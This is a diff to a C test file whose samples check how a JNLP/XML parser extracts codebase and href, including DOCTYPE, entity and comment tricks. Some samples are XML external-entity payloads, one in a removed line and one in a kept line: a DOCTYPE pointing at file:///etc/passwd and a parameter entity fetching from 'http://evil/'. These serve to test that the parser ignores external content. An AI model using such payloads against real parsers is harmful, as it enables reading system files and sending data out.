@@ -131,12 +131,10 @@ static const sample odd[] = {
      "<?jnlp codebase='e'?><jnlp` href='^h^'/>",
      NULL, RAW},
     {"\n\n <!--<jnlp>--> \r\n<jnlp` href='^h^' codebase='~c~'/>\n", RAW, RAW},
-    {"<!DOCTYPE jnlp [<!-- <jnlp href='x'> --><!ENTITY e '<jnlp href=\"y\"/>'>"
+    {"<!DOCTYPE jnlp [<!-- <jnlp href='x'> --><!NOTATION n SYSTEM '<jnlp/>'>"
+     "<!ATTLIST jnlp a CDATA \"&lt;jnlp codebase='a' href='b'/>\">"
      "<?p <jnlp href='z'/>?>]><jnlp` codebase='~c~'/>",
      RAW, NULL},
-    {"<!DOCTYPE jnlp [<!ENTITY e \"<jnlp codebase='a' href='b'/>\">]>"
-     "<jnlp`>&e;</jnlp>",
-     NULL, NULL},
     /* decoys after it */
     {"<jnlp`><jnlp codebase='a' href='b'/><![CDATA[<jnlp codebase='c' href='d'"
      ">]]><!-- <jnlp href='x'/> --><?p href='q'?></jnlp>"
@@ -146,9 +144,6 @@ static const sample odd[] = {
      "</jnlp></jnlp>",
      RAW, RAW},
     /* what a DOCTYPE does */
-    {"<!DOCTYPE jnlp [<!ENTITY h \"http://node1:8080\"><!ENTITY p '&h;/&#97;'>]>"
-     "<jnlp` codebase=\"~&p;/~\" href='^&h;/x.jnlp^'>&p;</jnlp>",
-     "http://node1:8080/a/", "http://node1:8080/x.jnlp"},
     {"<!DOCTYPE jnlp [<!ATTLIST jnlp codebase CDATA 'http://d:1/' href CDATA"
      " #IMPLIED spec CDATA #FIXED '1'>]><jnlp` href=\"^b^\"/>",
      "http://d:1/", RAW},
@@ -161,11 +156,16 @@ static const sample odd[] = {
     {"<!DOCTYPE jnlp [<!ATTLIST jnlp codebase NMTOKENS #IMPLIED>]>"
      "<jnlp` codebase='~  a \n b ~'/>",
      "a b", NULL},
+    /* those five that are declared already, the same once more */
     {"<!DOCTYPE jnlp [<!ENTITY amp '&#38;#38;'><!ENTITY lt '&#38;#60;'>]>"
      "<jnlp` codebase='~&amp;~' href='^&lt;^'/>",
      "&", "<"},
-    {"<!DOCTYPE jnlp SYSTEM 'file:///etc/passwd' [<!ENTITY x SYSTEM"
-     " 'file:///etc/passwd'><!ENTITY % y SYSTEM 'http://evil/'> %y;]>"
+    /* what stands elsewhere is never read, and may declare what it likes */
+    {"<!DOCTYPE jnlp PUBLIC '-//Sun Microsystems, Inc//DTD JNLP Descriptor"
+     " 1.5//EN' 'http://java.sun.com/dtd/JNLP-1.5.dtd'>"
+     "<jnlp` codebase='~c~' href='^b^'>&x;</jnlp>",
+     RAW, RAW},
+    {"<!DOCTYPE jnlp SYSTEM 'file:///etc/passwd' [%y;<!ENTITY x 'y'>]>"
      "<jnlp` href='^b^'>&x;</jnlp>",
      NULL, RAW},
     /* whatever else is in the document is nobody's business here */
